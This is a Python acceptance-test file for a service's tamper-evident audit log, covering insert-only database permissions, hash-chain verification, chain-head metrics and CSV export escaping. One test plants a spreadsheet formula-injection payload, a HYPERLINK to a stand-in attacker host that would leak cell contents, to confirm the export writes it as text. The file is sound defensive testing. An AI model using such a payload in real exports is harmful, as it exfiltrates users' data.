"""The audit of `sidecar up` is hash-chained and insert-only for the services: `sidecar audit
verify --data-dir` passes, names the event the database owner changed, the services' own
database role may not change audit rows, the chain heads are a metric, and an analytics CSV
export writes a formula-like label as text."""

from __future__ import annotations

import csv
import io
import re
import time
import uuid

import httpx
import psycopg
import pytest

from sidecar_app.runtime.embedded import EmbeddedPostgres
from sidecar_core.store.grants import APP_ROLE
from tests.security.conftest import EdgeStack

pytestmark = [pytest.mark.slow, pytest.mark.acceptance]
HEAD = re.compile(r'^sidecar_audit_chain_head\{chain="(\d+)",hash="([0-9a-f]{64})"\} ([0-9.e+]+)$',
                  re.MULTILINE)


@pytest.fixture(scope="module")
def stack(edge_stack: EdgeStack) -> EdgeStack:
    return edge_stack


def _owner_url(stack: EdgeStack) -> str:
    """The embedded database's owner (its superuser), as an operator on the host reaches it."""
    return EmbeddedPostgres(stack.data_dir / "pg").url


def test_the_services_connect_as_a_role_that_may_only_insert_and_read_audit_rows(
        stack: EdgeStack) -> None:
    assert stack.sql("SELECT current_user") == [(APP_ROLE,)]
    assert stack.sql("SELECT count(*) FROM audit_events")[0][0] > 0
    for sql in ("UPDATE audit_events SET actor = 'x'", "DELETE FROM audit_events",
                "TRUNCATE audit_events", "UPDATE audit_chain_heads SET pos = 0"):
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            stack.sql(sql)


def test_verify_passes_then_names_the_event_the_owner_changed(stack: EdgeStack) -> None:
    done = stack.cli("audit", "verify")
    assert done.returncode == 0, done.stdout + done.stderr
    checked = int(re.search(r"(\d+) events checked", done.stdout).group(1))  # type: ignore[union-attr]
    assert checked > 0
    with psycopg.connect(_owner_url(stack), autocommit=True) as owner:
        victim = owner.execute(
            "SELECT id, seq, type, actor FROM audit_events WHERE chain IS NOT NULL "
            "ORDER BY seq LIMIT 1 OFFSET 1").fetchone()
        assert victim is not None
        event_id, seq, kind, actor = victim
        owner.execute("UPDATE audit_events SET actor = 'nobody' WHERE id = %s", (event_id,))
        try:
            done = stack.cli("audit", "verify")
            assert done.returncode == 1, done.stdout + done.stderr
            assert (f"audit chain broken at event {event_id} (seq {seq}, type {kind}, at "
                    in done.stdout)
        finally:
            owner.execute("UPDATE audit_events SET actor = %s WHERE id = %s", (actor, event_id))
    assert stack.cli("audit", "verify").returncode == 0


def test_the_chain_heads_are_a_metric_of_the_workflow_service(stack: EdgeStack) -> None:
    url = f"http://127.0.0.1:{stack.ports['workflow-metrics']}/metrics"
    deadline, heads = time.monotonic() + 40, []
    while time.monotonic() < deadline:
        heads = [(int(c), h, int(float(p))) for c, h, p in HEAD.findall(httpx.get(url).text)]
        if any(pos for _, _, pos in heads):
            break
        time.sleep(1)
    assert len(heads) == 8 and any(pos for _, _, pos in heads)
    # each (chain, hash, position) an outside system records names one stored event
    for chain, digest, pos in heads:
        if pos:
            assert stack.sql("SELECT count(*) FROM audit_events WHERE chain = %s AND "
                             "chain_pos = %s AND hash = %s", chain, pos, digest) == [(1,)]


def test_an_analytics_csv_export_writes_a_formula_like_label_as_text(stack: EdgeStack) -> None:
    from sqlalchemy import create_engine, select
    from sqlalchemy.orm import Session

    from sidecar_core.store.models import Facility, Finding, Study

    label = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    engine = create_engine(stack.runtime()["database_url"].replace(
        "postgresql://", "postgresql+psycopg://", 1))
    try:
        with Session(engine) as s, s.begin():
            facility = s.scalars(select(Facility).where(Facility.name == stack.north)).one()
            study = Study(id=uuid.uuid4(), facility_id=facility.id, accession="CSV1",
                          study_instance_uid=f"1.2.826.0.1.{uuid.uuid4().int % 10**12}",
                          modality="CT")
            s.add(study)
            s.flush()
            s.add(Finding(study_id=study.id, model_name="", model_version="", label=label,
                          confidence=1.0, kind="box", origin="radiologist"))
    finally:
        engine.dispose()
    with stack.client() as http:
        reply = http.get("/api/v1/analytics/added.csv", params={"facility": stack.north})
    assert reply.status_code == 200, reply.text
    rows = list(csv.DictReader(io.StringIO(reply.text)))
    assert [r["label"] for r in rows] == ["'" + label]
